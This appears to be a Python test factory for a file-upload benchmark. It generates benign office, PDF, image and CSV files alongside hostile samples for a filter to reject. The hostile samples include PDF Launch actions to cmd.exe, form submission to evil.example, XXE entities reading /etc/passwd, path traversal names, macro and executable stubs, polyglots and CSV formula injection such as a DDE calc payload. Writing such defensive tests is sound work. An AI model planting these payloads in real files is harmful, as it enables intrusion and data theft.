"""The files of `bench/uploads.py`: 150 attacks, and 150 as offices and registries make them."""

from __future__ import annotations

import io
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

import docx
import pikepdf
import typst
from openpyxl import Workbook
from openpyxl.chart import BarChart, Reference
from openpyxl.drawing.image import Image as SheetImage
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, ImageDraw

from tests.factories import files
from tests.factories.hostile_files import hostile as known_hostile

if TYPE_CHECKING:
    import random
    from collections.abc import Callable, Iterator

COUNT = 150
WORDS = ("water", "energy", "harbour", "sensor", "island", "bridge", "storm", "signal", "light")


@dataclass(frozen=True)
class Sample:
    """One file: what it is, the kind its name says, its bytes, and the rule it must break."""

    what: str
    kind: str
    content: bytes
    rule: str = ""

    @property
    def name(self) -> str:
        """Under which it is sent."""
        return f"{self.what.replace(' ', '-')[:60]}.{self.kind}"


# -- attacks --------------------------------------------------------------------------------------

#: How the same attack is written down, so that it is not found by its letters.
WAYS: dict[str, dict[str, Any]] = {
    "packed": {"object_stream_mode": pikepdf.ObjectStreamMode.generate},
    "for the web": {"linearize": True},
    "protected": {"encryption": pikepdf.Encryption(owner="o", user="", R=6)},
    "protected in the old way": {"encryption": pikepdf.Encryption(owner="o", user="", R=4)},
}


def acting(action: Dictionary) -> Iterator[tuple[str, Callable[[pikepdf.Pdf], None]]]:
    """Places in which an action may hide."""
    yield "in a link", files.annotation(**files.LINK, A=action)

    def behind_another(pdf: pikepdf.Pdf) -> None:
        first = Dictionary(S=Name.URI, URI=String("https://example.org"), Next=action)
        files.annotation(**files.LINK, A=first)(pdf)

    def in_the_outline(pdf: pikepdf.Pdf) -> None:
        item = pdf.make_indirect(Dictionary(Title=String("One"), A=action))
        pdf.Root.Outlines = pdf.make_indirect(Dictionary(First=item, Last=item, Count=1))

    yield "behind another", behind_another
    yield "in the outline", in_the_outline


ACTIONS: dict[str, tuple[Dictionary, str]] = {
    "script": (files.SCRIPT, "script"),
    "program": (files.go_to("Launch", F=String("cmd.exe")), "launch"),
    "form": (files.go_to("SubmitForm", F=String("https://evil.example")), "launch"),
    "data": (files.go_to("ImportData", F=String("a.fdf")), "launch"),
    "sound": (files.go_to("Sound"), "media"),
    "film": (files.go_to("Rendition", OP=0), "media"),
}


def hostile() -> list[Sample]:
    """The tests' own, and each attack of a PDF or an office file in further places and writings."""
    found = [Sample(what, *rest) for what, rest in known_hostile().items()]
    found += _pdf_attacks()
    found += _office_attacks()
    found += _table_and_picture_attacks()
    return found[:COUNT]


def _pdf_attacks() -> Iterator[Sample]:
    for name, (action, rule) in ACTIONS.items():
        for place, change in acting(action):
            if place != "in a link":
                yield Sample(f"pdf {name} {place}", "pdf", files.make_pdf(change), rule)
        change = files.annotation(**files.LINK, A=action)
        for way, saving in WAYS.items():
            content = files.make_pdf(change, **saving)
            yield Sample(f"pdf {name} {way}", "pdf", content, rule)
    for way, saving in WAYS.items():
        attached = files.make_pdf(files.attached, **saving)
        yield Sample(f"pdf attachment {way}", "pdf", attached, "attachments")
        form = files.root(AcroForm=Dictionary(XFA=String("<xdp/>"), Fields=Array()))
        yield Sample(f"pdf form {way}", "pdf", files.make_pdf(form, **saving), "form")
        opening = files.root(OpenAction=files.SCRIPT)
        yield Sample(f"pdf opening {way}", "pdf", files.make_pdf(opening, **saving), "opening")
        closing = Dictionary(C=files.go_to("URI", URI=String("https://evil.example")))
        acts = files.make_pdf(_on_the_page(AA=closing), **saving)
        yield Sample(f"pdf page that acts {way}", "pdf", acts, "actions")


def _on_the_page(**entries: Any) -> Callable[[pikepdf.Pdf], None]:
    """Put entries into the page."""

    def change(pdf: pikepdf.Pdf) -> None:
        for key, value in entries.items():
            pdf.pages[0].obj["/" + key] = value

    return change


def _office_attacks() -> Iterator[Sample]:
    ole = b"\xd0\xcf\x11\xe0" * 9
    outside = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    for kind, folder in (("docx", "word"), ("xlsx", "xl"), ("pptx", "ppt")):
        parts: dict[str, tuple[dict[str, str | bytes], str]] = {
            "macros": ({f"{folder}/vbaProject.bin": ole}, "macros"),
            "a control": ({f"{folder}/activeX/activeX1.xml": "<a/>"}, "controls"),
            "an object": ({f"{folder}/embeddings/one.bin": ole}, "objects"),
            "entities": ({f"{folder}/a.xml": files.XML + outside}, "entities"),
            "a way out": ({"../../evil.xml": "<a/>"}, "names"),
            "a program": ({f"{folder}/run.exe": b"MZ"}, "nested"),
            "a page": ({f"{folder}/a.html": "<script>1</script>"}, "nested"),
        }
        for what, (more, rule) in parts.items():
            yield Sample(f"{kind} with {what}, again", kind, files.make_office(kind, more), rule)
        linked = files.relating(kind, ("image", "https://evil.example/pixel.png", True))
        yield Sample(f"{kind} with a picture outside", kind, linked, "external")
        behind = files.make_office(kind) + b"<script>1</script>"
        yield Sample(f"{kind} with a script behind", kind, behind, "two-in-one")


def _table_and_picture_attacks() -> Iterator[Sample]:
    cells = ("=1+cmd|' /C calc'!A0", "@SUM(1)", "=WEBSERVICE(1)", "=IMPORTXML(1)", "=DDE(1)")
    for number, cell in enumerate(cells):
        yield Sample(f"csv formula {number}", "csv", f"name,x\na,{cell}\n".encode(), "formula")
    for kind, format_name in (("png", "PNG"), ("jpg", "JPEG")):
        picture = files.make_picture(format_name, size=(64, 64))
        for what, behind in (("program", b"MZ\0"), ("web page", b"<html>"), ("pdf", b"%PDF-1.4")):
            content = picture + behind + files.make_office()
            yield Sample(f"{kind} with a {what} behind", kind, content, "two-in-one")


# -- everyday files -------------------------------------------------------------------------------


def ordinary(rng: random.Random) -> list[Sample]:
    """The tests' own, and what word processors, phones, scanners and registries write."""
    found = [Sample(what, kind, content) for what, (kind, content) in files.benign().items()]
    makers = (_typeset, _scanned, _certificate, _document, _sheet, _slides, _photograph, _table)
    number = 0
    while len(found) < COUNT:
        found.append(makers[number % len(makers)](number // len(makers), rng))
        number += 1
    return found


def _words(rng: random.Random, count: int = 60) -> str:
    return " ".join(rng.choices(WORDS, k=count))


def _typeset(number: int, rng: random.Random) -> Sample:
    """A tagged PDF of several pages, with fonts embedded, an outline and links."""
    pages = "\n#pagebreak()\n".join(
        f'= Part {part}\n{_words(rng)}\n\n#link("https://example.org")[More]'
        for part in range(1 + number % 4)
    )
    return Sample(f"typeset {number}", "pdf", typst.compile(pages.encode(), format="pdf"))


def _scanned(number: int, rng: random.Random) -> Sample:
    """A scanner's PDF: one picture a page, opening at full width as scanners write it."""
    target, pages = io.BytesIO(), [_picture(rng, (1240, 1754)) for _page in range(2)]
    pages[0].save(target, "PDF", save_all=True, append_images=pages[1:])
    with pikepdf.open(io.BytesIO(target.getvalue())) as pdf:
        pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.FitH, 842])
        saved = io.BytesIO()
        pdf.save(saved)
    return Sample(f"scanned {number}", "pdf", saved.getvalue())


def _certificate(number: int, rng: random.Random) -> Sample:
    """A registry's extract: typeset, and protected against changes in one of the usual ways."""
    content = typst.compile(f"= Extract {number}\n{_words(rng)}".encode(), format="pdf")
    ways = (
        pikepdf.Encryption(owner="registry", user="", R=(3, 4, 6)[number % 3], aes=number % 3 > 0)
        if number % 3
        else pikepdf.Encryption(owner="registry", user="", R=3, aes=False, metadata=False)
    )
    with pikepdf.open(io.BytesIO(content)) as pdf:
        if number % 2:
            view = Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.XYZ, 0, 842, 1]))
            pdf.Root.OpenAction = view
        saved = io.BytesIO()
        pdf.save(saved, encryption=ways)
    return Sample(f"certificate {number}", "pdf", saved.getvalue())


def _document(number: int, rng: random.Random) -> Sample:
    """A word processor's document with headings, a table and a picture."""
    document, target = docx.Document(), io.BytesIO()
    document.add_heading(f"Proposal {number}", 1)
    for _paragraph in range(5):
        document.add_paragraph(_words(rng))
    table = document.add_table(rows=4, cols=3)
    for row in table.rows:
        for cell in row.cells:
            cell.text = rng.choice(WORDS)
    picture = io.BytesIO()
    _picture(rng, (400, 300)).save(picture, "PNG")
    document.add_picture(io.BytesIO(picture.getvalue()))
    document.save(target)
    return Sample(f"proposal {number}", "docx", target.getvalue())


def _sheet(number: int, rng: random.Random) -> Sample:
    """A spreadsheet with formulas, a chart, a picture and links to follow."""
    book, target = Workbook(), io.BytesIO()
    sheet = book.active
    assert sheet is not None
    for row in range(1, 40):
        sheet.append([rng.choice(WORDS), row, f"=B{row}*2"])
    sheet["A1"].hyperlink = "https://example.org"
    chart = BarChart()
    chart.add_data(Reference(sheet, min_col=2, min_row=1, max_row=10))
    sheet.add_chart(chart, "E2")
    picture = io.BytesIO()
    _picture(rng, (60, 40)).save(picture, "PNG")
    sheet.add_image(SheetImage(picture), "E20")
    book.save(target)
    return Sample(f"figures {number}", "xlsx", target.getvalue())


def _slides(number: int, rng: random.Random) -> Sample:
    """Slides with pictures and, on every second, a chart with its figures."""
    picture = io.BytesIO()
    _picture(rng, (800, 450)).save(picture, "JPEG")
    more: dict[str, str | bytes] = {"ppt/media/image1.jpeg": picture.getvalue()}
    if number % 2:
        more["ppt/embeddings/Microsoft_Excel_Sheet1.xlsx"] = files.make_sheet()
    return Sample(f"deck {number}", "pptx", files.make_office("pptx", more))


def _photograph(number: int, rng: random.Random) -> Sample:
    """A telephone's picture, lying on its side as telephones write it; or a screenshot."""
    target = io.BytesIO()
    if number % 5 == 0:
        large = files.make_picture("JPEG", size=(3000, 2000), quality=90)
        return Sample(f"large photograph {number}", "jpg", large)
    if number % 2:
        exif = Image.Exif()
        exif[0x0112] = 6
        _picture(rng, (2000, 1500)).save(target, "JPEG", quality=85, exif=exif)
        return Sample(f"photograph {number}", "jpg", target.getvalue())
    _picture(rng, (1170, 1400)).convert("RGBA").save(target, "PNG")
    return Sample(f"screenshot {number}", "png", target.getvalue())


def _table(number: int, rng: random.Random) -> Sample:
    """A table in the encoding of some machine."""
    rows = "\n".join(f"{rng.choice(WORDS)};{row};-{row},5" for row in range(200))
    encoding = ("utf-8", "utf-8-sig", "utf-16", "cp1252")[number % 4]
    return Sample(f"table {number}", "csv", f"name;Größe;change\n{rows}\n".encode(encoding))


def _picture(rng: random.Random, size: tuple[int, int]) -> Image.Image:
    """Shapes on paper: it packs as drawings and photographs do, neither noise nor one colour."""
    picture = Image.new("RGB", size, "white")
    pen = ImageDraw.Draw(picture)
    for _shape in range(40):
        left, top = rng.randrange(size[0]), rng.randrange(size[1])
        colour = tuple(rng.randrange(256) for _part in range(3))
        pen.ellipse((left, top, left + rng.randrange(200), top + rng.randrange(200)), fill=colour)
    return picture
